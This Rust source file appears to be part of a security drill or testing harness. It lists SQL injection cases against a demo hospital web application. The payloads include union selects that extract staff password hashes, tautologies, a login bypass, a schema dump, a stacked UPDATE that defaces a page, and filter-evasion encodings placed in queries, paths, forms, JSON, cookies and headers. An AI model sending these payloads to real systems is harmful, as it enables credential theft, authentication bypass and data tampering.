//! SQL injection: union, tautology, comment, stacked, error; every place SQL text is built from.

use serde_json::json;

use super::encode::{json_escaped, percent, percent_twice};
use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::{ANDROID, Field, Request};

/// A password hash of the staff table, which no page shows.
const STAFF: Proof = Proof::Leaks("DEMO-HASH-");
/// A report nobody may query.
const SEALED: Proof = Proof::Leaks("保密检验项目");
/// A doctor who is not listed.
const UNLISTED: Proof = Proof::Leaks("未公开医师");

const STAFF_OF_REPORT: &str = "x' UNION SELECT login, password_hash, note, 4, 5, 6, 7, 8 FROM staff_account -- ";
const STAFF_OF_DOCTOR: &str = "0 UNION SELECT password_hash, login, note, id, 5 FROM staff_account";

fn sqli(place: Place, encoding: Encoding, name: &'static str, request: Request, proof: Proof) -> Attack {
    Attack::new(AttackClass::Sqli, place, encoding, name, request, proof)
}

pub(super) fn all() -> Vec<Attack> {
    in_target().into_iter().chain(in_body()).chain(in_head()).collect()
}

fn in_target() -> Vec<Attack> {
    use Encoding::{DoublePercent, Obfuscated, Percent, Plain};
    use Place::{Path, Query};
    let doctor = || Request::get("/doctor").agent(ANDROID);
    vec![
        sqli(Query, Percent, "union in a number", doctor().query("id", STAFF_OF_DOCTOR), STAFF),
        sqli(
            Query,
            DoublePercent,
            "union, encoded twice",
            doctor().raw_query(&format!("id={}", percent_twice(STAFF_OF_DOCTOR))),
            STAFF,
        ),
        sqli(
            Query,
            Obfuscated,
            "union with comments for blanks",
            doctor().raw_query("id=0/**/UnIoN/**/SeLeCt/**/password_hash,login,note,id,5/**/FROM/**/staff_account"),
            STAFF,
        ),
        sqli(
            Query,
            Plain,
            "union, blanks as plus",
            doctor().raw_query("id=0+UNION+ALL+SELECT+password_hash,login,note,id,5+FROM+staff_account+LIMIT+1"),
            STAFF,
        ),
        sqli(
            Query,
            Percent,
            "schema",
            doctor()
                .query("id", "0 UNION SELECT sql, name, type, 4, 5 FROM sqlite_master WHERE name = 'staff_account'"),
            Proof::Leaks("CREATE TABLE staff_account"),
        ),
        sqli(Query, Percent, "number tautology", doctor().query("id", "0 OR listed = 0 OR 1=2"), UNLISTED),
        sqli(Query, Percent, "tautology in quotes", Request::get("/doctors").query("dept", "' OR '1'='1"), UNLISTED),
        sqli(Query, Percent, "comment cuts the rest", Request::get("/doctors").query("q", "%' OR 1=1 -- "), UNLISTED),
        sqli(
            Query,
            Percent,
            "subselect in a like",
            Request::get("/doctors")
                .query("q", "' UNION SELECT 1, password_hash, login, note, 5 FROM staff_account -- "),
            STAFF,
        ),
        sqli(
            Query,
            Percent,
            "stacked update",
            doctor().query("id", "1; UPDATE notice SET title = 'DEMO-DEFACED' WHERE id = 4; -- "),
            Proof::Leaks("DEMO-DEFACED"),
        )
        .then(Request::get("/notice/4")),
        sqli(
            Path,
            Percent,
            "union in the path",
            Request::get("/department/")
                .raw_path(&percent("0 UNION SELECT login, password_hash, note FROM staff_account")),
            STAFF,
        ),
        sqli(
            Path,
            Percent,
            "tautology in an API path",
            Request::get("/api/v1/appointments/")
                .raw_path(&percent("x' UNION SELECT login, password_hash, 1, 2, 3 FROM staff_account -- ")),
            STAFF,
        ),
    ]
}

fn in_body() -> Vec<Attack> {
    use Encoding::{JsonEscape, Obfuscated, Percent, Plain};
    use Place::{Form, Json, Multipart};
    let text = |value| Field::Text { name: "card_no", value };
    vec![
        sqli(
            Form,
            Percent,
            "tautology with comment",
            Request::post("/report").form(&[("card_no", "' OR 1=1 -- "), ("name", "")]),
            SEALED,
        ),
        sqli(
            Form,
            Percent,
            "union in a form",
            Request::post("/report").form(&[("card_no", STAFF_OF_REPORT), ("name", "")]),
            STAFF,
        ),
        sqli(
            Form,
            Percent,
            "login without password",
            Request::post("/login").form(&[("login", "linxiaoman' -- "), ("password", "x")]),
            Proof::SetsCookie("HSID=s-7c1e0a55"),
        ),
        sqli(
            Form,
            Obfuscated,
            "login tautology",
            Request::post("/login").form(&[("login", "x'/**/oR/**/'a'='a'/**/--"), ("password", "x")]),
            Proof::SetsCookie("HSID=s-"),
        ),
        sqli(
            Json,
            Plain,
            "union in JSON",
            Request::post("/api/v1/reports/query").json(&json!({"card_no": STAFF_OF_REPORT, "name": ""})),
            STAFF,
        ),
        sqli(
            Json,
            JsonEscape,
            "union in JSON escapes",
            Request::post("/api/v1/reports/query").body("application/json", json_escaped("card_no", STAFF_OF_REPORT)),
            STAFF,
        ),
        sqli(
            Json,
            Plain,
            "tautology in JSON",
            Request::post("/api/v1/reports/query").json(&json!({"card_no": "' OR 'a'='a' OR '1'='2", "name": ""})),
            SEALED,
        ),
        sqli(
            Multipart,
            Plain,
            "union in a part",
            Request::post("/report").multipart(&[text(STAFF_OF_REPORT), Field::Text { name: "name", value: "" }]),
            STAFF,
        ),
        sqli(
            Multipart,
            Plain,
            "union beside a file",
            Request::post("/api/v1/uploads").multipart(&[text("x' UNION SELECT password_hash FROM staff_account -- ")]),
            STAFF,
        ),
    ]
}

fn in_head() -> Vec<Attack> {
    use Encoding::{Percent, Plain};
    use Place::{Cookie, Header};
    const STAFF_OF_MEMBER: &str = "x' UNION SELECT login, password_hash, note, 4 FROM staff_account LIMIT 1 -- ";
    vec![
        sqli(Cookie, Plain, "union in the session cookie", Request::get("/my").cookie("HSID", STAFF_OF_MEMBER), STAFF),
        sqli(
            Cookie,
            Percent,
            "union in the session cookie, encoded",
            Request::get("/my").cookie("HSID", &percent(STAFF_OF_MEMBER)),
            STAFF,
        ),
        sqli(
            Cookie,
            Plain,
            "tautology in the session cookie",
            Request::get("/my").cookie("HSID", "' OR '1'='1"),
            Proof::Leaks("10000000001"),
        ),
        sqli(
            Header,
            Plain,
            "union in the user agent",
            Request::get("/api/v1/client").agent("x' UNION SELECT password_hash FROM staff_account -- "),
            STAFF,
        ),
    ]
}
